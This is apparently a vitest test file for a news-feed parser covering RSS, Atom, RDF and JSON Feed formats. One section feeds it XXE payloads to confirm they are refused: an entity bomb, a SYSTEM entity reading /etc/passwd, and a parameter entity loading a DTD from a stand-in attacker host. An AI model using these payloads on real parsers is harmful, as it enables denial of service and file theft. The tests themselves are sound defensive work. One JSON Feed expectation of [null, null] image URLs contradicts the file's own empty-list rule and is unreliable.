import { describe, it, expect } from 'vitest';
import { MIN_FEED_CHARS, parseFeedDocument, type ParseOutcome } from './parse-feed';
import { normaliseItem, type RawFeedItem } from '~/core/normalise';

const CHANNEL_DESCRIPTION = 'Daily news for senior housing and senior living owners, operators, investors and developers.';

const rss = (items: string, extraNamespaces = '') => `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:media="http://search.yahoo.com/mrss/" xmlns:dc="http://purl.org/dc/elements/1.1/"${extraNamespaces}>
  <channel>
    <title>Senior Housing News</title>
    <link>https://seniorhousingnews.com</link>
    <description>${CHANNEL_DESCRIPTION}</description>
    ${items}
  </channel>
</rss>`;

function items(outcome: ParseOutcome, format: string): RawFeedItem[] {
  if (!outcome.ok) throw new Error(`expected a feed, got: ${outcome.error}`);
  expect(outcome.format).toBe(format);
  return outcome.items;
}

function error(outcome: ParseOutcome): string {
  if (outcome.ok) throw new Error(`expected a failure, got a ${outcome.format} feed`);
  return outcome.error;
}

describe('parseFeedDocument: documents that are not feeds', () => {
  it('has the spec’s minimum of 100 characters', () => {
    expect(MIN_FEED_CHARS).toBe(100);
  });

  it.each([
    ['empty', ''],
    ['whitespace', ' \n\t '.repeat(50)],
    ['a short XML document', '<rss version="2.0"><channel><title>T</title></channel></rss>'],
    ['99 characters after trimming', `   ${'x'.repeat(99)}   `],
  ])('refuses %s as too short', (_label, text) => {
    expect(error(parseFeedDocument(text))).toBe('Feed unavailable: response too short');
  });

  it('measures the trimmed length: 100 characters pass the length check', () => {
    const text = 'x'.repeat(100);
    expect(error(parseFeedDocument(text))).not.toBe('Feed unavailable: response too short');
  });

  it.each([
    [
      'an HTML 404 page',
      '<!DOCTYPE html><html><head><meta charset="utf-8"><title>404 Not Found</title></head><body><h1>Not Found</h1><p>The requested URL was not found on this server.</p><hr></body></html>',
    ],
    [
      'a well-formed XHTML "page not found"',
      '<html><head><title>Page not found</title></head><body><h1>Sorry</h1><p>The page you are looking for does not exist on this server.</p></body></html>',
    ],
    [
      'a plain-text 404',
      '404 page not found: the server could not find the requested resource. Please check the address and try again.',
    ],
    [
      'a JSON 404',
      '{"error": "Not Found", "status": 404, "message": "The requested feed does not exist on this server anymore."}',
    ],
  ])('reports %s as page not found', (_label, text) => {
    expect(error(parseFeedDocument(text))).toBe('Feed unavailable: page not found');
  });

  it('reports other HTML as malformed, not as not found', () => {
    const page =
      '<!DOCTYPE html><html><head><meta charset="utf-8"><title>Service Unavailable</title></head><body><p>Try again later, the server is busy.</p><br></body></html>';
    expect(error(parseFeedDocument(page))).toMatch(/^Malformed feed: /);
  });

  it.each([
    ['an unescaped ampersand', rss('<item><title>Dining & wellness</title><link>https://seniorhousingnews.com/a</link></item>')],
    ['an unclosed tag', rss('<item><title>Dining</title><link>https://seniorhousingnews.com/a</item>')],
    ['a stray <', rss('<item><title>1 < 2</title><link>https://seniorhousingnews.com/a</link></item>')],
  ])('refuses malformed XML: %s', (_label, text) => {
    expect(error(parseFeedDocument(text))).toMatch(/^Malformed feed: .+ \(line \d+\)$/);
  });

  it('refuses text that is no known feed format', () => {
    expect(error(parseFeedDocument('Just some text. '.repeat(10)))).toBe('Malformed feed: Unrecognized feed format');
  });
});

describe('parseFeedDocument: XML entity declarations are refused', () => {
  const REFUSED = 'Refused: the document declares XML entities';

  it('refuses a billion-laughs entity bomb', () => {
    const bomb = `<?xml version="1.0"?>
<!DOCTYPE rss [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<rss version="2.0"><channel><title>&lol3;</title><link>https://seniorhousingnews.com</link><description>x</description></channel></rss>`;
    expect(error(parseFeedDocument(bomb))).toBe(REFUSED);
  });

  it('refuses a SYSTEM external entity', () => {
    const xxe = `<?xml version="1.0"?>
<!DOCTYPE rss [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
<rss version="2.0"><channel><title>Feed</title><link>https://seniorhousingnews.com</link><description>&secret;</description></channel></rss>`;
    expect(error(parseFeedDocument(xxe))).toBe(REFUSED);
  });

  it('refuses a parameter entity, in lower case too', () => {
    const xxe = `<?xml version="1.0"?>
<!doctype rss [ <!entity % remote SYSTEM "https://attacker.site.org/evil.dtd"> %remote; ]>
<rss version="2.0"><channel><title>Feed</title><link>https://seniorhousingnews.com</link><description>x</description></channel></rss>`;
    expect(error(parseFeedDocument(xxe))).toBe(REFUSED);
  });

  it('refuses an entity declared after other declarations', () => {
    const doc = `<?xml version="1.0"?>
<!DOCTYPE rss [ <!ELEMENT rss ANY> <!ATTLIST rss version CDATA #IMPLIED> <!ENTITY x "y"> ]>
<rss version="2.0"><channel><title>&x;</title><link>https://seniorhousingnews.com</link><description>x</description></channel></rss>`;
    expect(error(parseFeedDocument(doc))).toBe(REFUSED);
  });

  it('still parses an RSS 0.91 feed whose DOCTYPE declares no entities', () => {
    const doc = `<?xml version="1.0" encoding="ISO-8859-1"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91"><channel><title>Old</title><link>https://argentum.org</link><description>${CHANNEL_DESCRIPTION}</description><language>en</language>
<item><title>Argentum backs workforce bill</title><link>https://www.argentum.org/a</link><description>Workforce bill.</description></item></channel></rss>`;
    expect(items(parseFeedDocument(doc), 'rss')).toEqual([
      {
        title: 'Argentum backs workforce bill',
        link: 'https://www.argentum.org/a',
        description: 'Workforce bill.',
        content: null,
        published: null,
        imageUrls: [],
      },
    ]);
  });
});

describe('parseFeedDocument: RSS 2.0', () => {
  it('maps title, link, description, content:encoded, pubDate and images', () => {
    const doc = rss(`
    <item>
      <title>Welltower Acquires 12-Community Portfolio</title>
      <link>https://seniorhousingnews.com/2026/11/welltower/?utm_source=rss</link>
      <description><![CDATA[<p>Welltower buys a <b>portfolio</b>.</p>]]></description>
      <content:encoded><![CDATA[<p>Full story about the <em>deal</em>.</p>]]></content:encoded>
      <pubDate>Mon, 23 Nov 2026 08:00:00 GMT</pubDate>
      <guid isPermaLink="false">shn-1</guid>
      <media:content url="https://seniorhousingnews.com/img/w.jpg" medium="image" />
      <media:content url="https://seniorhousingnews.com/video/w.mp4" medium="video" type="video/mp4" />
      <media:thumbnail url="https://seniorhousingnews.com/img/w-thumb.jpg" />
      <enclosure url="https://seniorhousingnews.com/img/w-enc.jpg" type="image/jpeg" length="1234" />
      <enclosure url="https://seniorhousingnews.com/audio/w.mp3" type="audio/mpeg" length="1234" />
    </item>`);
    expect(items(parseFeedDocument(doc), 'rss')).toEqual([
      {
        title: 'Welltower Acquires 12-Community Portfolio',
        link: 'https://seniorhousingnews.com/2026/11/welltower/?utm_source=rss',
        description: '<p>Welltower buys a <b>portfolio</b>.</p>',
        content: '<p>Full story about the <em>deal</em>.</p>',
        published: 'Mon, 23 Nov 2026 08:00:00 GMT',
        imageUrls: [
          'https://seniorhousingnews.com/img/w.jpg',
          'https://seniorhousingnews.com/img/w-thumb.jpg',
          'https://seniorhousingnews.com/img/w-enc.jpg',
        ],
      },
    ]);
  });

  it('takes an image enclosure alone', () => {
    const doc = rss(
      '<item><title>A</title><link>https://seniorhousingnews.com/a</link><enclosure url="https://seniorhousingnews.com/img/e.png" type="image/png" length="1"/></item>',
    );
    expect(items(parseFeedDocument(doc), 'rss')[0]!.imageUrls).toEqual(['https://seniorhousingnews.com/img/e.png']);
  });

  it('takes media:content inside a media:group and untyped media:content', () => {
    const doc = rss(`<item><title>A</title><link>https://seniorhousingnews.com/a</link>
      <media:content url="https://seniorhousingnews.com/img/untyped.jpg" />
      <media:group><media:content url="https://seniorhousingnews.com/img/g1.jpg" medium="image"/></media:group></item>`);
    expect(items(parseFeedDocument(doc), 'rss')[0]!.imageUrls).toEqual([
      'https://seniorhousingnews.com/img/untyped.jpg',
      'https://seniorhousingnews.com/img/g1.jpg',
    ]);
  });

  it('falls back to a permalink guid when there is no link', () => {
    const doc = rss(`
      <item><title>Guid default</title><guid>https://seniorhousingnews.com/2026/11/a/</guid></item>
      <item><title>Guid permalink</title><guid isPermaLink="true">https://seniorhousingnews.com/2026/11/b/</guid></item>
      <item><title>Empty link</title><link></link><guid>https://seniorhousingnews.com/2026/11/c/</guid></item>`);
    expect(items(parseFeedDocument(doc), 'rss').map((i) => i.link)).toEqual([
      'https://seniorhousingnews.com/2026/11/a/',
      'https://seniorhousingnews.com/2026/11/b/',
      'https://seniorhousingnews.com/2026/11/c/',
    ]);
  });

  it('does not take a guid marked isPermaLink="false" as the link', () => {
    const doc = rss('<item><title>Opaque guid</title><guid isPermaLink="false">seniorhousingnews.com-post-123</guid></item>');
    const [item] = items(parseFeedDocument(doc), 'rss');
    expect(item!.link).toBeNull();
    // Taken as a link, the identifier would pass the link rules as "https://seniorhousingnews.com-post-123/".
    const feed = { key: 'shn', name: 'Senior Housing News', defaultCategory: null };
    expect(normaliseItem(item!, feed, new Date('2026-11-23T12:00:00Z'))).toEqual({
      ok: false,
      reason: 'invalid link: empty link',
    });
  });

  it('prefers the link over the guid', () => {
    const doc = rss(
      '<item><title>A</title><link>https://seniorhousingnews.com/link</link><guid>https://seniorhousingnews.com/guid</guid></item>',
    );
    expect(items(parseFeedDocument(doc), 'rss')[0]!.link).toBe('https://seniorhousingnews.com/link');
  });

  it('takes dc:date when there is no pubDate', () => {
    const doc = rss(
      '<item><title>A</title><link>https://seniorhousingnews.com/a</link><dc:date>2026-11-22T10:00:00Z</dc:date></item>',
    );
    expect(items(parseFeedDocument(doc), 'rss')[0]!.published).toBe('2026-11-22T10:00:00Z');
  });

  it('decodes XML entities and keeps items in document order', () => {
    const doc = rss(`
      <item><title>Dining &amp; wellness</title><link>https://seniorhousingnews.com/1</link></item>
      <item><title>Second</title><link>https://seniorhousingnews.com/2</link></item>
      <item><title>Third</title><link>https://seniorhousingnews.com/3</link></item>`);
    expect(items(parseFeedDocument(doc), 'rss').map((i) => i.title)).toEqual(['Dining & wellness', 'Second', 'Third']);
  });

  it('gives missing fields as null and no images as an empty list', () => {
    const doc = rss('<item><title>Bare</title></item>');
    expect(items(parseFeedDocument(doc), 'rss')).toEqual([
      { title: 'Bare', link: null, description: null, content: null, published: null, imageUrls: [] },
    ]);
  });

  it('parses a feed with no items to an empty list', () => {
    expect(items(parseFeedDocument(rss('')), 'rss')).toEqual([]);
  });

  it('still parses a valid feed whose stories mention 404 or Not Found', () => {
    const doc = rss(`
      <item><title>404 residents relocated after flood</title><link>https://seniorhousingnews.com/404-residents</link>
        <description>The operator said a missing-resident report was Not Found to be credible.</description></item>`);
    const [item] = items(parseFeedDocument(doc), 'rss');
    expect(item!.title).toBe('404 residents relocated after flood');
    expect(item!.link).toBe('https://seniorhousingnews.com/404-residents');
  });

  it('accepts surrounding whitespace and a byte order mark', () => {
    const doc = `\uFEFF\n\n${rss('<item><title>A</title><link>https://seniorhousingnews.com/a</link></item>')}\n\n`;
    expect(items(parseFeedDocument(doc), 'rss').map((i) => i.title)).toEqual(['A']);
  });
});

describe('parseFeedDocument: Atom', () => {
  const atom = (entries: string) => `<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xmlns:media="http://search.yahoo.com/mrss/">
  <title>McKnight's Senior Living</title>
  <id>urn:uuid:60a76c80-d399-11d9-b93C-0003939e0af6</id>
  <updated>2026-11-23T08:00:00Z</updated>
  <subtitle>${CHANNEL_DESCRIPTION}</subtitle>
  ${entries}
</feed>`;

  it('maps the alternate link, summary, content, published and enclosure image', () => {
    const doc = atom(`
  <entry>
    <title>States Expand Medicaid Waivers</title>
    <link rel="self" href="https://www.mcknightsseniorliving.com/feed/entry/1"/>
    <link rel="alternate" type="text/html" href="https://www.mcknightsseniorliving.com/news/waivers/"/>
    <link rel="enclosure" type="image/jpeg" href="https://www.mcknightsseniorliving.com/img/waivers.jpg"/>
    <link rel="enclosure" type="audio/mpeg" href="https://www.mcknightsseniorliving.com/audio/waivers.mp3"/>
    <id>mck-1</id>
    <published>2026-11-22T10:00:00Z</published>
    <updated>2026-11-23T10:00:00Z</updated>
    <summary>Three states expanded waiver slots.</summary>
    <content type="html">&lt;p&gt;Full &lt;b&gt;text&lt;/b&gt;&lt;/p&gt;</content>
  </entry>`);
    expect(items(parseFeedDocument(doc), 'atom')).toEqual([
      {
        title: 'States Expand Medicaid Waivers',
        link: 'https://www.mcknightsseniorliving.com/news/waivers/',
        description: 'Three states expanded waiver slots.',
        content: '<p>Full <b>text</b></p>',
        published: '2026-11-22T10:00:00Z',
        imageUrls: ['https://www.mcknightsseniorliving.com/img/waivers.jpg'],
      },
    ]);
  });

  it('takes a link without rel as the alternate, and updated when there is no published', () => {
    const doc = atom(`
  <entry>
    <title>Caregiver training cuts turnover</title>
    <link href="https://www.mcknightsseniorliving.com/news/training/"/>
    <id>mck-2</id>
    <updated>2026-11-21T10:00:00Z</updated>
    <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>XHTML body</p></div></content>
  </entry>`);
    expect(items(parseFeedDocument(doc), 'atom')).toEqual([
      {
        title: 'Caregiver training cuts turnover',
        link: 'https://www.mcknightsseniorliving.com/news/training/',
        description: null,
        content: '<p>XHTML body</p>',
        published: '2026-11-21T10:00:00Z',
        imageUrls: [],
      },
    ]);
  });

  it('passes an HTML title through for the normaliser to clean', () => {
    const doc = atom(
      `<entry><title type="html">Dining &amp;amp; wellness</title><link href="https://www.mcknightsseniorliving.com/a"/><id>3</id><updated>2026-11-21T10:00:00Z</updated></entry>`,
    );
    expect(items(parseFeedDocument(doc), 'atom')[0]!.title).toBe('Dining &amp; wellness');
  });
});

describe('parseFeedDocument: RSS 1.0 (RDF)', () => {
  it('maps the item and its dc:date', () => {
    const doc = `<?xml version="1.0" encoding="UTF-8"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:content="http://purl.org/rss/1.0/modules/content/">
  <channel rdf:about="https://www.argentum.org/">
    <title>Argentum</title><link>https://www.argentum.org/</link><description>${CHANNEL_DESCRIPTION}</description>
    <items><rdf:Seq><rdf:li rdf:resource="https://www.argentum.org/news/bill"/><rdf:li rdf:resource="https://www.argentum.org/news/summit"/></rdf:Seq></items>
  </channel>
  <item rdf:about="https://www.argentum.org/news/bill">
    <title>Argentum Backs Senate Bill</title>
    <link>https://www.argentum.org/news/bill</link>
    <description>The bill would fund training grants.</description>
    <dc:date>2026-11-20T09:00:00Z</dc:date>
    <content:encoded><![CDATA[<p>RDF body</p>]]></content:encoded>
  </item>
  <item rdf:about="https://www.argentum.org/news/summit">
    <title>Fall Policy Summit</title>
    <link>https://www.argentum.org/news/summit</link>
    <dc:date>not a date</dc:date>
  </item>
</rdf:RDF>`;
    expect(items(parseFeedDocument(doc), 'rdf')).toEqual([
      {
        title: 'Argentum Backs Senate Bill',
        link: 'https://www.argentum.org/news/bill',
        description: 'The bill would fund training grants.',
        content: '<p>RDF body</p>',
        published: '2026-11-20T09:00:00Z',
        imageUrls: [],
      },
      {
        title: 'Fall Policy Summit',
        link: 'https://www.argentum.org/news/summit',
        description: null,
        content: null,
        // Passed through as written: the normaliser turns unparsable dates into now.
        published: 'not a date',
        imageUrls: [],
      },
    ]);
  });
});

describe('parseFeedDocument: JSON Feed', () => {
  const json = (feedItems: unknown[]) =>
    JSON.stringify({
      version: 'https://jsonfeed.org/version/1.1',
      title: 'LeadingAge',
      home_page_url: 'https://leadingage.org',
      description: CHANNEL_DESCRIPTION,
      items: feedItems,
    });

  it('maps url, summary, content_html, image and date_published', () => {
    const doc = json([
      {
        id: '1',
        url: 'https://leadingage.org/news/hud-202',
        external_url: 'https://www.hud.gov/press',
        title: 'HUD Announces Section 202 Funding',
        summary: 'The funding round supports affordable senior housing.',
        content_html: '<p>HTML body</p>',
        content_text: 'text body',
        image: 'https://leadingage.org/img/hud-202.jpg',
        banner_image: 'https://leadingage.org/img/banner.jpg',
        date_published: '2026-11-20T09:00:00Z',
        date_modified: '2026-11-21T09:00:00Z',
      },
    ]);
    expect(items(parseFeedDocument(doc), 'json')).toEqual([
      {
        title: 'HUD Announces Section 202 Funding',
        link: 'https://leadingage.org/news/hud-202',
        description: 'The funding round supports affordable senior housing.',
        content: '<p>HTML body</p>',
        published: '2026-11-20T09:00:00Z',
        imageUrls: ['https://leadingage.org/img/hud-202.jpg', 'https://leadingage.org/img/banner.jpg'],
      },
    ]);
  });

  it('falls back to external_url, content_text and date_modified', () => {
    const doc = json([
      {
        id: '2',
        external_url: 'https://www.hud.gov/press/202',
        title: 'External',
        content_text: 'Plain body',
        date_modified: '2026-11-21T09:00:00Z',
      },
    ]);
    expect(items(parseFeedDocument(doc), 'json')).toEqual([
      {
        title: 'External',
        link: 'https://www.hud.gov/press/202',
        description: null,
        content: 'Plain body',
        published: '2026-11-21T09:00:00Z',
        imageUrls: [null, null],
      },
    ]);
  });

  it('refuses malformed JSON', () => {
    const doc = json([{ id: '1', title: 'x', url: 'https://leadingage.org/a' }]).slice(0, -5);
    expect(error(parseFeedDocument(doc))).toMatch(/^Malformed feed: /);
  });
});
